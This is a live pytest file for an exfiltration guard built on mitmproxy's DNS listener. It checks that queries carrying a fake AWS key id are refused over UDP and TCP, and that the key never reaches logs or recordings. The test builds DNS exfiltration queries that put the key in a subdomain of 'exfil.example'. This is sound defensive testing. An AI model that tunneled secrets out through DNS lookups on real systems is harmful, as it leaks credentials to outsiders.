"""wire63, live: mitmproxy's DNS mode (`--mode dns@PORT`, a resolver the agent is pointed at) beside the regular
listener. attack26 / open30 tried DNS through a `tun` listener (root); the DNS listener takes queries over UDP and
TCP without root. A query whose name holds a key (as written, lower-cased) is answered REFUSED over both and never
forwarded; the log, the index and the `.mitm` hold no key (held: `Datagrams.dns_request` runs for every DNS flow,
whatever the mode)."""

from __future__ import annotations

import socket
import struct
import time

import pytest

from tests import fakes
from tests.audit.test_live_audit import assert_recordings_sound
from tests.live import harness

pytestmark = pytest.mark.live

KEY = fakes.aws_key_id(63)
REFUSED = 5


def _query(name: str, qtype: int = 16) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 0x6363, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", qtype, 1)


def _rcode_udp(port: int, name: str) -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(10)
        s.sendto(_query(name), ("127.0.0.1", port))
        return s.recv(4096)[3] & 0x0F


def _rcode_tcp(port: int, name: str) -> int:
    query = _query(name)
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(struct.pack(">H", len(query)) + query)
        answer = b""
        while len(answer) < 6:
            chunk = s.recv(4096)
            assert chunk, "the DNS listener closed without an answer"
            answer += chunk
        return answer[5] & 0x0F  # after the two-byte length


def _wait_for(proxy: harness.Proxy, line: str, timeout: float = 30) -> None:
    """The DNS listener starts after the regular one, whose line start_proxy waited for."""
    deadline = time.monotonic() + timeout
    while line not in proxy.log:
        assert time.monotonic() < deadline, proxy.log[-2000:]
        time.sleep(0.05)  # the log is read by the harness's thread: nothing to wait on but its lines


def test_a_query_holding_a_key_to_the_dns_listener_is_refused_over_udp_and_tcp(tmp_path):
    port = harness.free_port()
    record = tmp_path / "rec"
    proxy = harness.start_proxy(tmp_path, None, "--mode", "regular", "--mode", f"dns@{port}",
                                "--set", f"exitguard_record_dir={record}")
    try:
        _wait_for(proxy, f"DNS server listening at 127.0.0.1:{port}")
        codes = [_rcode_udp(port, f"{KEY.lower()}.exfil.example"), _rcode_udp(port, f"{KEY}.exfil.example"),
                 _rcode_tcp(port, f"{KEY.lower()}.exfil.example")]
    finally:
        assert proxy.stop() == 0
    assert codes == [REFUSED] * 3
    written = harness.written(record)
    for secret in (KEY, KEY.lower()):
        assert secret not in proxy.log and secret.encode() not in written
    records = assert_recordings_sound(record)
    assert sum(r.get("event") == "dns_refused" for r in records) == 3
